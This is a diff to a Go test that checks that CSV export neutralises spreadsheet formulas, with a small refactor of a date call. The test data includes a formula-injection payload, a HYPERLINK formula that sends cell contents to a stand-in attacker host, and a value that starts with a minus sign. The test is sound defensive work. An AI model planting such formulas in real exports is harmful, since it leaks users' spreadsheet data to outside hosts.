@@ -21,7 +21,7 @@ func TestExportCSVNeutralisesFormulas(t *testing.T) {
 	const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 	u := e.user("eve@example.org", "eve-password")
 	p := e.project(accounting.Project{URL: "https://one.example.org/", Name: "One"})
-	today := e.store.Today(time.Now(), "UTC")
+	today := e.store.Ledger.Today(time.Now(), "UTC")
 	spec := demodata.Spec{UserID: u.ID, Projects: []int64{p.ID}, Days: 3, End: today,
 		Computers: []demodata.Computer{{Name: hostile, NCPUs: 2, PFPOps: 1e9, ClientVersion: "7.20.5"},
 			{Name: "-plain-minus", NCPUs: 2, PFPOps: 1e9, ClientVersion: "7.20.5"}}}
